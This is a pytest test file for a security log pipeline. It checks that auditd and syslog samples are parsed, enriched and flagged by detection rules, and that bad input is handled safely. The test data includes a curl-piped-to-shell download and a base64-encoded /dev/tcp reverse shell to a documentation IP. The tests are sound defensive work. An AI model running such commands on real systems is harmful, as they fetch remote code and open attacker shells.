"""The embedded runner end to end: bundled samples and msticpy's audit log in, documents out."""

from __future__ import annotations

import asyncio
import base64
import errno
import gzip
import hashlib
import io
import re
from collections import Counter
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from schemas import loads, schema_for
from streams.build import build_pipeline
from streams.cli.run import format_summary
from streams.config import SecstreamConfig, bundled_config_dir, load_config
from streams.graph import Outputs, PipelineStats
from streams.runner import InputSpec, OutputError, OutputSink, RunResult, _read_capped, run_pipeline

SAMPLES = bundled_config_dir() / "samples"


async def _run(
    inputs: list[InputSpec], out: Path, config: SecstreamConfig | None = None, batch_lines: int = 50
) -> RunResult:
    pipeline = await build_pipeline(config or load_config(environ={}))
    sink = OutputSink(out)
    try:
        return await run_pipeline(pipeline, inputs, sink, batch_lines=batch_lines)
    finally:
        sink.close()
        await pipeline.close()


def _read(path: Path) -> list[dict[str, Any]]:
    return [loads(line) for line in path.read_bytes().splitlines()]


def _validate_all(out: Path) -> dict[str, list[dict[str, Any]]]:
    docs = {}
    for stream, name in (("events", "events"), ("detections", "detections"), ("deadletter", "deadletter")):
        docs[stream] = _read(out / f"{name}.jsonl")
        validator = jsonschema.Draft202012Validator(schema_for(stream))
        for doc in docs[stream]:
            validator.validate(doc)
    return docs


def _distinct_audit_events(path: Path) -> int:
    return len(set(re.findall(rb"^(node=\S+ )?type=\S+ msg=audit\(([0-9.]+:[0-9]+)\)", path.read_bytes(), re.M)))


@pytest.fixture(scope="module")
def sample_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[RunResult, dict[str, list[dict[str, Any]]]]:
    out = tmp_path_factory.mktemp("samples")
    result = asyncio.run(
        _run([InputSpec(str(SAMPLES / "audit.log"), "auditd"), InputSpec(str(SAMPLES / "syslog.log"), "syslog")], out)
    )
    return result, _validate_all(out)


def _exec(events: list[dict[str, Any]], command_line: str) -> dict[str, Any]:
    found = [doc for doc in events if doc.get("process", {}).get("command_line") == command_line]
    assert len(found) == 1, command_line
    return found[0]


class TestBundledSamples:
    async def test_every_event_comes_out_once(self, sample_run: Any) -> None:
        """Each distinct audit event and each syslog line yields exactly one event document."""
        _result, docs = sample_run
        audit = [
            d for d in docs["events"] if d["event"]["module"] == "auditd" and d["event"]["action"] != "session_summary"
        ]
        syslog = [
            d for d in docs["events"] if d["event"]["module"] == "syslog" and d["event"]["action"] != "session_summary"
        ]
        assert len(audit) == _distinct_audit_events(SAMPLES / "audit.log")
        assert len(syslog) == len((SAMPLES / "syslog.log").read_text().splitlines())
        ids = [d["event"]["id"] for d in docs["events"]]
        assert len(ids) == len(set(ids))
        assert docs["deadletter"] == []

    async def test_the_attacks_are_detected(self, sample_run: Any) -> None:
        """Every attack in the sample raises its detection."""
        _result, docs = sample_run
        names = {d["rule"]["name"] for d in docs["detections"]}
        assert {
            "Download piped to a shell",
            "Base64-decoded payload piped to a shell",
            "Shell with an outbound network connection",  # the base64 reverse shell
            "SSH authorized_keys modified by a command",
            "Local account created",
            "Cron persistence by command",
            "System logs wiped",
            "Shell history cleared or disabled",
            "Rapid command execution",
        } <= names
        ids = [d["event"]["id"] for d in docs["detections"]]
        assert len(ids) == len(set(ids))

    async def test_lineage_survives_pid_reuse(self, sample_run: Any) -> None:
        """PID 2021 is curl under alice's bash first, then logrotate under init: each gets its own parent."""
        _result, docs = sample_run
        curl = _exec(docs["events"], "curl -fsSL http://203.0.113.66/x.sh")
        logrotate = _exec(docs["events"], "/usr/sbin/logrotate /etc/logrotate.conf")
        assert curl["process"]["pid"] == logrotate["process"]["pid"] == 2021
        assert curl["process"]["parent"]["pid"] == 2020
        assert curl["process"]["parent"]["command_line"] == "bash -c curl -fsSL http://203.0.113.66/x.sh | sh"
        assert logrotate["process"]["parent"]["pid"] == 1
        assert curl["process"]["entity_id"] != logrotate["process"]["entity_id"]

    async def test_base64_payload_is_decoded_and_enriched(self, sample_run: Any) -> None:
        """The reverse shell's base64 is decoded, its IoCs extracted, and the C2 address found in the blocklist."""
        _result, docs = sample_run
        payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").decode()
        doc = _exec(docs["events"], f"bash -c echo {payload} | base64 -d | bash")
        assert any("/dev/tcp/203.0.113.66/4444" in layer.get("text", "") for layer in doc["secstream"]["decoded"])
        assert "203.0.113.66" in doc["secstream"]["iocs"]["ipv4"]
        hits = doc["threat"]["enrichments"]
        assert hits and hits[0]["matched"]["atomic"] == "203.0.113.66"
        assert hits[0]["indicator"]["type"] == "ipv4-addr"

    async def test_connect_is_decoded(self, sample_run: Any) -> None:
        """The connect syscall's SOCKADDR becomes destination.ip/port."""
        _result, docs = sample_run
        connects = [d for d in docs["events"] if d["event"]["action"] == "connect"]
        assert [(d["destination"]["ip"], d["destination"]["port"]) for d in connects] == [("203.0.113.66", 4444)]

    async def test_event_without_eoe_is_flushed_as_partial(self, sample_run: Any) -> None:
        """The db-01 event whose EOE was lost still comes out, marked partial."""
        result, docs = sample_run
        psql = _exec(docs["events"], "psql -c select 1")
        assert psql["host"]["name"] == "db-01"
        assert result.stats.audit["partial"] >= 1

    async def test_same_input_gives_same_output(self, sample_run: Any, tmp_path: Path) -> None:
        """A second run over the same input produces byte-identical events and detections."""
        _result, docs = sample_run
        await _run(
            [InputSpec(str(SAMPLES / "audit.log"), "auditd"), InputSpec(str(SAMPLES / "syslog.log"), "syslog")],
            tmp_path,
        )
        assert _read(tmp_path / "events.jsonl") == docs["events"]
        assert _read(tmp_path / "detections.jsonl") == docs["detections"]


class TestMsticpyAuditLog:
    async def test_auditd_log_gives_938_events(self, msticpy_testdata: Path, tmp_path: Path) -> None:
        """msticpy's auditd_log.txt holds 938 distinct events (msticpy itself reports 381)."""
        result = await _run([InputSpec(str(msticpy_testdata / "auditd_log.txt"), "auditd")], tmp_path)
        docs = _validate_all(tmp_path)
        audit = [d for d in docs["events"] if d["event"]["action"] != "session_summary"]
        assert len(audit) == 938
        assert result.stats.lines_in["auditd"] == 1708
        assert docs["deadletter"] == []

    async def test_output_does_not_depend_on_batch_size(self, msticpy_testdata: Path, tmp_path: Path) -> None:
        """Cutting the same input into batches of 7, 200 or 2000 lines gives identical documents."""
        outputs = []
        for size in (7, 200, 2000):
            await _run(
                [InputSpec(str(msticpy_testdata / "auditd_log.txt"), "auditd")], tmp_path / str(size), None, size
            )
            outputs.append(
                (
                    (tmp_path / str(size) / "events.jsonl").read_bytes(),
                    (tmp_path / str(size) / "detections.jsonl").read_bytes(),
                )
            )
        assert outputs[0] == outputs[1] == outputs[2]


class TestBadInput:
    async def test_garbage_goes_to_dead_letters_and_the_run_goes_on(self, tmp_path: Path) -> None:
        """Binary garbage, truncated, oversized and mis-encoded lines become dead letters with their bytes."""
        good = (SAMPLES / "audit.log").read_bytes().splitlines(keepends=True)[:6]
        bad = [
            b"\x00\x01\x02\xff\xfe garbage\n",
            b"node=web-01 type=SYSCALL msg=audit(1795766401.000:\n",
            b"type=EXECVE msg=audit(1795766401.000:77): argc=1 a0=" + b"A" * 70000 + b"\n",
            "type=USER_CMD msg=audit(1795766401.000:78): cmd=caf\xe9\n".encode("latin-1"),
            b"this is not an audit record at all\n",
        ]
        path = tmp_path / "mixed.log.gz"
        path.write_bytes(gzip.compress(b"".join(bad[:2] + good[:3] + bad[2:] + good[3:])))
        result = await _run([InputSpec(str(path), "auditd")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        originals = Counter(base64.b64decode(d["secstream"]["original_base64"]) for d in docs["deadletter"])
        long_line = bad.pop(2).rstrip(b"\n")
        for line in bad:
            assert originals[line.rstrip(b"\n")] == 1, line[:60]
        # The line over input.max_line_bytes was never read whole: its head, size and digest are kept.
        (cut,) = [d for d in docs["deadletter"] if d["secstream"].get("original_truncated")]
        assert base64.b64decode(cut["secstream"]["original_base64"]) == long_line[:65536]
        assert cut["secstream"]["original_size"] == len(long_line)
        assert cut["secstream"]["original_sha256"] == hashlib.sha256(long_line).hexdigest()
        assert all(d["event"]["reason"] for d in docs["deadletter"])
        assert all(d["secstream"]["source"]["file"] == str(path) for d in docs["deadletter"])
        assert sum(result.stats.bad_input.values()) == len(docs["deadletter"])
        assert any(d["event"]["module"] == "auditd" for d in docs["events"])


class TestSyslogFormats:
    async def test_rfc3164_lines_take_the_year_closest_to_when_they_are_read(self, tmp_path: Path) -> None:
        """BSD syslog lines (no year) are events, dated in the year that puts them closest to when they were
        read, with the default config."""
        import datetime as dt

        path = tmp_path / "auth.log"
        path.write_text(
            "Nov 27 08:00:11 web-01 sshd[1991]: Accepted publickey for alice from 198.51.100.23 port 52144 ssh2\n"
            "<86>Nov 27 08:00:12 web-01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n"
        )
        await _run([InputSpec(str(path), "syslog")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        assert docs["deadletter"] == []
        assert [d["event"]["action"] for d in docs["events"]] == ["ssh_login", "sudo_command"]
        now = dt.datetime.now(dt.UTC)
        year = min(
            (now.year - 1, now.year, now.year + 1),
            key=lambda y: abs((dt.datetime(y, 11, 27, 8, 0, 11, tzinfo=dt.UTC) - now).total_seconds()),
        )
        assert all(d["@timestamp"].startswith(f"{year}-11-27T08:00:1") for d in docs["events"])

    async def test_a_replayed_file_takes_its_year_from_the_audit_clock(self, tmp_path: Path) -> None:
        """Replaying a 2024 host's audit and syslog files, the syslog lines are dated 2024, beside the audit
        events of the same host, not in the year of the replay."""
        audit = tmp_path / "audit.log"
        audit.write_text(
            "node=web-01 type=USER_CMD msg=audit(1732694400.000:1): pid=1 uid=0 msg='cmd=6964 res=success'\n"
        )  # 2024-11-27T08:00:00Z
        syslog = tmp_path / "auth.log"
        syslog.write_text("Nov 27 08:00:11 web-01 sshd[1991]: Accepted publickey for alice from 10.0.0.1 port 2 ssh2\n")
        await _run([InputSpec(str(audit), "auditd"), InputSpec(str(syslog), "syslog")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        (login,) = [d for d in docs["events"] if d["event"]["module"] == "syslog"]
        assert login["@timestamp"] == "2024-11-27T08:00:11.000Z"

    async def test_configured_year_makes_replays_reproducible(self, tmp_path: Path) -> None:
        """With input.syslog_year set, BSD syslog lines get that year."""
        path = tmp_path / "auth.log"
        path.write_text("Jul 10 15:13:26 host sshd[1]: Accepted password for bob from 203.0.113.9 port 22 ssh2\n")
        await _run(
            [InputSpec(str(path), "syslog")],
            tmp_path / "out",
            load_config(environ={"SECSTREAM_INPUT__SYSLOG_YEAR": "2019"}),
        )
        docs = _validate_all(tmp_path / "out")
        assert docs["events"][0]["@timestamp"] == "2019-07-10T15:13:26.000Z"


class TestPoisonValues:
    async def test_values_no_stage_can_represent_become_dead_letters_and_the_rest_goes_on(self, tmp_path: Path) -> None:
        """The issue's lines: each stopped `secstream run` with a traceback. Now each is a dead letter with
        its reason, counted, and every line after it is still processed."""
        good_syslog = b"<38>1 2026-01-01T00:00:00Z h1 sshd 1 - - Failed password for x from 1.2.3.4 port 22 ssh2"
        syslog = tmp_path / "syslog.log"
        syslog.write_bytes(b"<38>1 9999-12-31T23:59:59.9999999Z h1 sshd 1 - - x\n" + good_syslog + b"\n")
        audit = tmp_path / "audit.log"
        clone = (
            b"node=h1 type=SYSCALL msg=audit(1795766402.000:5): arch=c000003e syscall=56 success=yes exit=abc "
            b'a0=1 pid=100 ppid=1 uid=0 comm="x" exe="/bin/x"\n'
            b"node=h1 type=EOE msg=audit(1795766402.000:5): \n"
        )
        good_audit = b"".join((SAMPLES / "audit.log").read_bytes().splitlines(keepends=True)[:5])
        audit.write_bytes(clone + good_audit)
        result = await _run([InputSpec(str(audit), "auditd"), InputSpec(str(syslog), "syslog")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        reasons = {d["event"]["module"]: d["event"]["reason"] for d in docs["deadletter"]}
        assert "timestamp" in reasons["syslog"]
        assert "exit" in reasons["auditd"]
        assert base64.b64decode(
            next(d for d in docs["deadletter"] if d["event"]["module"] == "auditd")["secstream"]["original_base64"]
        ).startswith(b"node=h1 type=SYSCALL msg=audit(1795766402.000:5)")
        assert any(d["event"]["module"] == "syslog" for d in docs["events"])
        assert any(d["event"]["module"] == "auditd" for d in docs["events"])
        assert sum(result.stats.bad_input.values()) == len(docs["deadletter"]) == 2


class TestReading:
    def test_a_long_line_is_never_read_whole(self) -> None:
        """A 5 MB line without a newline: at most the cap (plus one byte) is ever held, the rest is hashed
        in bounded chunks, and the next line is read normally."""
        long_line = b"x" * 5_000_000
        reads: list[int] = []

        class Recording(io.BytesIO):
            def readline(self, size: int | None = -1) -> bytes:
                reads.append(size if size is not None else -1)
                return super().readline(size)

        handle = Recording(long_line + b"\r\nnext\n")
        head = _read_capped(handle, 1000)  # type: ignore[arg-type]
        assert head == (long_line[:1000], (len(long_line), hashlib.sha256(long_line).hexdigest()))
        assert _read_capped(handle, 1000) == (b"next\n", None)  # type: ignore[arg-type]
        assert all(0 < size <= 65536 for size in reads)

    async def test_whitespace_lines_never_vanish(self, tmp_path: Path) -> None:
        """Empty lines are counted; whitespace-only lines are dead letters."""
        path = tmp_path / "syslog.log"
        path.write_bytes(b"\n   \n\t\n<38>1 2026-01-01T00:00:00Z h1 app 1 - - x\n")
        result = await _run([InputSpec(str(path), "syslog")], tmp_path / "out")
        assert result.stats.lines_in["syslog"] == 4
        assert result.stats.bad_input["syslog:empty_line"] == 1
        assert len(_read(tmp_path / "out" / "deadletter.jsonl")) == 2


class TestOutput:
    def test_a_failed_write_is_cut_back_to_whole_lines(self, tmp_path: Path) -> None:
        """Disk full half-way through a batch: the file keeps its complete lines and the error names it."""
        sink = OutputSink(tmp_path)
        sink.write(Outputs(events=[{"n": 1}]))
        real = sink.events

        class FullDisk:
            def __init__(self) -> None:
                self.calls = 0

            def tell(self) -> int:
                return real.tell()

            def write(self, data: Any) -> int:
                self.calls += 1
                if self.calls > 1:
                    raise OSError(errno.ENOSPC, "No space left on device")
                return real.write(bytes(data)[:5])  # a partial write, as a full disk gives

            def truncate(self, size: int) -> int:
                return real.truncate(size)

            def seek(self, offset: int) -> int:
                return real.seek(offset)

        sink._names[id(full := FullDisk())] = str(tmp_path / "events.jsonl")
        sink.events = full  # type: ignore[assignment]
        with pytest.raises(OutputError, match=r"events\.jsonl: No space left on device"):
            sink.write(Outputs(events=[{"n": 2}, {"n": 3}]))
        sink.events = real
        sink.close()
        assert (tmp_path / "events.jsonl").read_bytes() == b'{"n":1}\n'

    def test_out_on_a_file_is_refused(self, tmp_path: Path) -> None:
        target = tmp_path / "file"
        target.write_text("x")
        with pytest.raises(OutputError, match="is a file, not a directory"):
            OutputSink(target)


class TestSummary:
    def test_control_characters_in_record_types_are_escaped(self) -> None:
        """A crafted record type cannot clear or retitle the terminal through the summary."""
        stats = PipelineStats()
        stats.events_out["auditd:\x1b]0;owned\x07\x1b[2J"] = 1
        stats.bad_input["auditd:\x9bJ"] = 1
        text = format_summary(RunResult(stats=stats, seconds=0.1))
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
        assert "\\x1b]0;owned\\x07\\x1b[2J" in text


class TestFailingStages:
    async def test_a_failing_enrichment_keeps_the_events(self, tmp_path: Path) -> None:
        """An enricher that raises costs the batch its enrichment, never its events; the failure is counted."""
        pipeline = await build_pipeline(load_config(environ={}))

        async def broken(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
            raise RuntimeError("provider exploded")

        assert pipeline.enricher is not None
        pipeline.enricher.enrich = broken  # type: ignore[method-assign]
        sink = OutputSink(tmp_path)
        try:
            await run_pipeline(pipeline, [InputSpec(str(SAMPLES / "syslog.log"), "syslog")], sink)
        finally:
            sink.close()
            await pipeline.close()
        assert len(_read(tmp_path / "events.jsonl")) >= len((SAMPLES / "syslog.log").read_text().splitlines())
        assert pipeline.stats.enrichment["failed:RuntimeError"] >= 1

    async def test_a_detection_stage_that_raises_makes_that_event_a_dead_letter(self, tmp_path: Path) -> None:
        pipeline = await build_pipeline(load_config(environ={}))
        stage = pipeline.detection_stages[1]
        original_run = stage.run

        def run(doc: dict[str, Any], *args: Any) -> None:
            if "poison" in doc.get("message", ""):
                raise OverflowError("int too large to convert")
            original_run(doc, *args)

        stage.run = run  # type: ignore[method-assign]
        path = tmp_path / "syslog.log"
        path.write_text("<38>1 2026-01-01T00:00:00Z h1 app 1 - - poison\n<38>1 2026-01-01T00:00:01Z h1 app 1 - - ok\n")
        sink = OutputSink(tmp_path / "out")
        try:
            await run_pipeline(pipeline, [InputSpec(str(path), "syslog")], sink)
        finally:
            sink.close()
            await pipeline.close()
        docs = _validate_all(tmp_path / "out")
        assert [d["message"] for d in docs["events"]] == ["ok"]
        (dead,) = docs["deadletter"]
        assert dead["error"]["type"] == "OverflowError"
        assert pipeline.stats.bad_input["syslog:OverflowError"] == 1


class TestClaimedCounts:
    async def test_args_count_is_never_more_than_the_arguments_present(self, tmp_path: Path) -> None:
        """argc=99999999 with three arguments: args_count is 3 and the mismatch is flagged."""
        path = tmp_path / "audit.log"
        path.write_text(
            'type=EXECVE msg=audit(1795766401.000:77): argc=99999999 a0="a" a1="b" a2="c"\n'
            "type=EOE msg=audit(1795766401.000:77): \n"
        )
        await _run([InputSpec(str(path), "auditd")], tmp_path / "out")
        (doc,) = _validate_all(tmp_path / "out")["events"]
        assert doc["process"]["args"] == ["a", "b", "c"]
        assert doc["process"]["args_count"] == 3
        assert "argc_mismatch" in doc["auditd"].get("warnings", [])
